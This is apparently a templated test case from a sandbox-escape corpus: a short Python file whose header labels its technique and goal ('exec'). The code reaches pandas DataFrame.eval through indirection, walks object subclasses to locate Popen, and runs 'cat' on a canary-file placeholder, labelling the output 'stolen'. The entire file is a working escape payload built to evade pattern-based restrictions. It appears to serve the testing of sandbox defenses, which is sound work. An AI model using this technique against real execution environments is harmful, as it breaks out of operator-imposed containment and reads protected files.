# class: class_def
# technique: __iter__/__next__ (allowed) of a small class: pd.DataFrame(rows) pulls rows through them, and each pull runs the walk (DataFrame.eval reached as (call := frame.agg)('eval', ...))
# goal: exec
import numpy as np
import pandas as pd

frame = pd.DataFrame({"x": np.arange(2)})

def ev(expr, **names):
    return (call := frame.agg)("eval", 0, expr, local_dict=names)

u = "_" * 2



class Rows:
    def __init__(self):
        self.n = 0

    def __iter__(self):
        return self

    def __next__(self):
        if self.n:
            raise StopIteration
        self.n += 1
        classes = ev("@o[0]." + u + "subclasses" + u + "()", o=[object])
        popen_cls = [c for c in classes if str(c).endswith("Popen'>")][0]
        return {"stolen": popen_cls(["cat", "{{CANARY_FILE}}"], stdout=-1).communicate()[0].decode()}


df = pd.DataFrame(list(Rows()))
